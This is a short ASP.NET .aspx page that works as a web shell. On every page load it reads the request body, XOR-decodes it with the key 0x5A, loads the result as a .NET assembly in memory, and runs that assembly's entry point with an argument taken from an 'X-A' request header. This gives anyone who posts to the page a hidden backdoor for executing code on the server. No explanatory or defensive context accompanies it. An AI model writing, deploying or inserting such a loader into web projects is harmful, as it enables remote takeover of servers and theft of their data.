<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
protected void Page_Load(object sender, EventArgs e) {
    var raw = Request.InputStream; var buf = new byte[raw.Length]; raw.Read(buf, 0, buf.Length);
    if (buf.Length == 0) return;
    for (int i = 0; i < buf.Length; i++) buf[i] = (byte)(buf[i] ^ 0x5A);
    Func<byte[], Assembly> ld = Assembly.Load;
    Assembly a = ld(buf);
    MethodInfo ep = a.EntryPoint;
    ep.Invoke(null, new object[] { new string[] { Request.Headers["X-A"] } });
}
</script>
